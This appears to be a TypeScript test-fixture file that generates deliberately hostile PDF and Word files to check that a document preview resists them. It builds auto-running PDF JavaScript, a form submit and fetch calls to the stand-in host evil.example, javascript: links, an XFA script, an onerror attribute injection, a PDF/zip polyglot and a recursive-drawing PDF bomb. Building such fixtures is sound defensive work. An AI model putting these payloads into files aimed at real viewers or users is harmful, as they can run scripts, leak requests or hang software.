import { documentOf, makeDocx, relationships } from '../make-docx.ts';
import { makePdf, pdfStream } from '../make-pdf.ts';
import { zipBytes } from '../sample-files.ts';

// Files that our own server would refuse, or that a hosted project stores unseen. The preview has to stand them.

const evil = 'https://evil.example';
const font = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>';
const page = (more: string) =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${font} /Contents 4 0 R ${more} >>`;
const drawn = (text: string) =>
  pdfStream(Buffer.from(`BT /F1 18 Tf 72 700 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`));
const script = `<< /S /JavaScript /JS (app.alert\\(1\\); fetch\\('${evil}'\\)) >>`;

export const scriptText = '<script>fetch("https://evil.example")</script>';

/**
 * Scripts that start by themselves, when a page opens or as a named script, a link over the whole page, an address and a form that are
 * opened and sent at once, a form in XML with a script, and a script that is drawn as text. It is also a web page and a zip archive.
 */
export const hostilePdf = () => {
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a" layout="tb"><pageSet><pageArea><contentArea/><medium stock="letter"/></pageArea></pageSet><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="${evil}">x</a><img src="${evil}/a.png"/></body></exData></value></draw></subform></template></xdp:xdp>`;
  const send = `<< /S /SubmitForm /F (${evil}/send) /Next ${script} >>`;
  const pdf = makePdf(
    {
      1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${evil}/open) /Next ${send} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /XFA 5 0 R /Fields [] >> >>`,
      3: page(
        `/AA << /O ${script} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]`,
      ),
      4: drawn(scriptText),
      5: pdfStream(Buffer.from(form)),
    },
    { unlisted: `%${scriptText}\n` },
  );
  return Buffer.concat([pdf, zipBytes({ 'a.html': scriptText })]);
};

/** Each form draws the next one twice: a thousand billion drawings in two kilobytes. */
export const endlessPdf = () => {
  const forms = Array.from({ length: 40 }, (_, at) => [
    10 + at,
    pdfStream(
      Buffer.from('/X Do /X Do'),
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${11 + at} 0 R >> >>`,
    ),
  ]);
  return makePdf({
    ...Object.fromEntries(forms),
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /X 10 0 R >> >> >>',
    4: pdfStream(Buffer.from('/X Do')),
    50: pdfStream(Buffer.from('0 0 m'), '/Type /XObject /Subtype /Form /BBox [0 0 9 9]'),
  });
};

/** A link that would run a script, pictures from elsewhere, and markup as text. */
export const hostileDocx = () =>
  makeDocx({
    'word/_rels/document.xml.rels': relationships(
      { type: 'hyperlink', target: 'javascript:alert(1)', mode: 'External' },
      { type: 'image', target: `${evil}/a.png`, mode: 'External' },
      { type: 'hyperlink', target: 'https://ada.example/portfolio', mode: 'External' },
    ),
    'word/document.xml': documentOf(
      `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Press me</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:hyperlink r:id="rId3"><w:r><w:t>Portfolio</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="1" name="a" descr="&quot; onerror=&quot;alert(1)"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId2"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
      <w:p><w:r><w:t>${scriptText.replaceAll('<', '&lt;')}</w:t></w:r></w:p>`,
    ),
  });
